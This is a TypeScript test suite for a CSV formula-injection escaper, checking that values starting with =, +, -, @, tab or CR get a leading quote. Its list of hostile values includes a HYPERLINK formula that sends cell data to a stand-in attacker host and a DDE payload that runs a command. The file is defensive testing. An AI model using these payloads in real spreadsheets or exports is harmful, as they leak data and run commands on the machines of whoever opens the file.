// Formula escaping for CSV written to be opened in a spreadsheet: any value whose first character
// is = + - @ tab or CR gets a leading ', whatever follows (line breaks included), except a plain
// signed number; nothing else does.
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { escapeFormula, looksLikeFormula, toSafeCsv } from "../../schemas/spreadsheet.ts";
import { csvTemplate, listContexts } from "./helpers.ts";

const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1,\n"click")',
  "=1+1",
  "@SUM(1;1)\r\nx",
  "-2+3\u2028x",
  "-2\n",
  "+1-1",
  "+33 1 23 45 67 89",
  "+",
  "=",
  "@",
  "-",
  "\t=1+1",
  "\r=1+1",
  "\r\n=1+1",
  "=cmd|' /C calc'!A0\n",
  "-2+3\u2029x",
  "=A1\u0085x",
  '="a""b"',
];

const HARMLESS = [
  "-2",
  "+12.50",
  "-.5",
  "-1e3",
  "",
  "plain",
  " =1+1",
  "\n=1+1",
  "'=1+1",
  "1-2",
  "a=b",
  "jane@example.com",
  "ＳＵＭ",
  "２",
];

describe("escapeFormula", () => {
  it.each(HOSTILE.map((v) => [JSON.stringify(v), v]))("prefixes ' to %s", (_name, value) => {
    expect(looksLikeFormula(value)).toBe(true);
    expect(escapeFormula(value)).toBe(`'${value}`);
  });

  it.each(HARMLESS.map((v) => [JSON.stringify(v), v]))("leaves %s as it is", (_name, value) => {
    expect(looksLikeFormula(value)).toBe(false);
    expect(escapeFormula(value)).toBe(value);
  });

  it("escapes the cases PapaParse's escapeFormulae misses (its regex has no s flag)", () => {
    const papa = Papa.unparse([["=HYPERLINK(1,\n2)", "@SUM(1;1)\r\nx", "-2+3\u2028x"]], {
      escapeFormulae: true,
    });
    expect(papa.startsWith('"=HYPERLINK')).toBe(true);
    expect(toSafeCsv([["=HYPERLINK(1,\n2)", "@SUM(1;1)\r\nx", "-2+3\u2028x"]])).toBe(
      `"'=HYPERLINK(1,\n2)","'@SUM(1;1)\r\nx","'-2+3\u2028x"\r\n`,
    );
  });
});

describe("toSafeCsv", () => {
  it("writes every hostile value escaped and reads back as ' + the value", () => {
    const csv = toSafeCsv(
      HOSTILE.map((v, i) => [String(i), v]),
      { fields: ["n", "value"] },
    );
    const parsed = Papa.parse<string[]>(csv, { newline: "\r\n", skipEmptyLines: true }).data;
    expect(parsed[0]).toEqual(["n", "value"]);
    expect(parsed.slice(1)).toEqual(HOSTILE.map((v, i) => [String(i), `'${v}`]));
  });

  it("quotes escaped cells and leaves harmless cells unquoted", () => {
    expect(toSafeCsv([["-2", "-2-2", "plain", "1-2"]])).toBe(`-2,"'-2-2",plain,1-2\r\n`);
  });

  it("escapes the header row too", () => {
    expect(toSafeCsv([["1"]], { fields: ["=x"] })).toBe(`"'=x"\r\n1\r\n`);
  });

  it("quotes every cell when asked", () => {
    expect(toSafeCsv([["a", "", "-1-1"]], { fields: ["h1", "h2", "h3"], quoteAll: true })).toBe(
      `"h1","h2","h3"\r\n"a","","'-1-1"\r\n`,
    );
  });

  it("writes a header alone as one line and nothing at all as the empty string", () => {
    expect(toSafeCsv([], { fields: ["a", "b"] })).toBe("a,b\r\n");
    expect(toSafeCsv([])).toBe("");
  });
});

describe("templates", () => {
  it.each(listContexts().map((c) => [c.name]))("%s: the CSV template has no formula-looking cell", (name) => {
    const cells = Papa.parse<string[]>(csvTemplate(name), { skipEmptyLines: true }).data.flat();
    expect(cells.filter((cell) => cell.startsWith("'") || looksLikeFormula(cell))).toEqual([]);
  });
});
